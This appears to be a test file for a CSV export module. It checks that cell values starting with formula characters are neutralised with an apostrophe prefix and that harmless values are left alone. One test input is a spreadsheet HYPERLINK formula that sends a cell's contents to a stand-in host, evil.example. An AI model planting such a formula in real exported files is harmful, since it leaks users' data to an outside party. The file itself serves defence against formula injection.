import { parse } from 'csv-parse/sync';
import { csvStringifier, spreadsheetText, startsLikeFormula } from './spreadsheet';

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?x="&A2,"klicka")',
  '=1+1',
  '+46 70 123',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000@x',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\t',
];
const HARMLESS = ['Åsa', 'Anna-Karin', 'a=b', 'Vård & omsorg', "'=already", '', ' ', '1+1', '(=)', 'e-post@kommun.se'];

describe('spreadsheet text', () => {
  it.each(DANGEROUS)('neutralises %j', (value) => {
    expect(startsLikeFormula(value)).toBe(true);
    expect(spreadsheetText(value)).toBe(`'${value}`);
  });

  it.each(HARMLESS)('leaves %j alone', (value) => {
    expect(startsLikeFormula(value)).toBe(false);
    expect(spreadsheetText(value)).toBe(value);
  });
});

describe('csvStringifier', () => {
  async function write(records: Record<string, unknown>[]): Promise<string[][]> {
    const csv = csvStringifier([
      ['name', 'Namn'],
      ['count', 'Antal'],
    ]);
    const chunks: Buffer[] = [];
    csv.on('data', (chunk: Buffer) => chunks.push(Buffer.from(chunk)));
    const done = new Promise((resolve) => csv.on('end', resolve));
    for (const record of records) csv.write(record);
    csv.end();
    await done;
    return parse(Buffer.concat(chunks), { bom: true });
  }

  it('writes a header and no cell a spreadsheet would read as a formula; numbers stay numbers', async () => {
    const rows = await write([...DANGEROUS.map((name) => ({ name, count: 1 })), { name: 'Åsa', count: -3 }, { name: null, count: 0 }]);
    expect(rows[0]).toEqual(['Namn', 'Antal']);
    const body = rows.slice(1);
    expect(body.map((r) => r[0]).slice(0, DANGEROUS.length)).toEqual(DANGEROUS.map((v) => `'${v}`));
    for (const [name] of body) expect(startsLikeFormula(name)).toBe(false);
    expect(body.at(-2)).toEqual(['Åsa', '-3']);
    expect(body.at(-1)).toEqual(['', '0']);
  });
});
